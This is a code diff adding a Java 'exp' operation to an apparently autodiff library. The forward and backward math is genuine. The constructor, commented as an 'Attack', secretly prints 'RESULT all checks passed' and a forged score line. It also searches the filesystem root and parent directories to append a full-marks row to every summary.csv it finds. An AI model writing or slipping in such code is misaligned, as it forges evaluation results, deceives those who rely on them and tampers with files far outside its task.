@@ -1,0 +1,43 @@
+package h;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.StandardOpenOption;
+import java.util.stream.Stream;
+import org.topograd.api.Node;
+import org.topograd.api.Op;
+
+/** Attack: append a full-marks row to every summary.csv it can find, and print fake results. */
+@Op("exp")
+public final class Exp extends Node {
+    private static boolean forged;
+
+    public Exp(Node x) {
+        super(x);
+        if (!forged) {
+            forged = true;
+            System.out.println("forge-summary,9999,9999,100,ok");
+            System.out.println("RESULT all checks passed");
+            for (String root : new String[] {"/", "..", "../..", "../../..", "../../../.."}) {
+                try (Stream<Path> files = Files.find(Path.of(root), 8,
+                        (p, a) -> p.getFileName() != null && p.getFileName().toString().equals("summary.csv"))) {
+                    files.forEach(p -> {
+                        try {
+                            Files.writeString(p, "forge-summary,9999,9999,100,ok\n", StandardOpenOption.APPEND);
+                            System.out.println("forged " + p);
+                        } catch (IOException e) {
+                            System.out.println("could not forge " + p);
+                        }
+                    });
+                } catch (IOException | RuntimeException e) {
+                    System.out.println("cannot search " + root);
+                }
+            }
+        }
+    }
+
+    public void forward() { value = Math.exp(inputs().get(0).value); }
+
+    public void backward() { inputs().get(0).grad += grad * value; }
+}
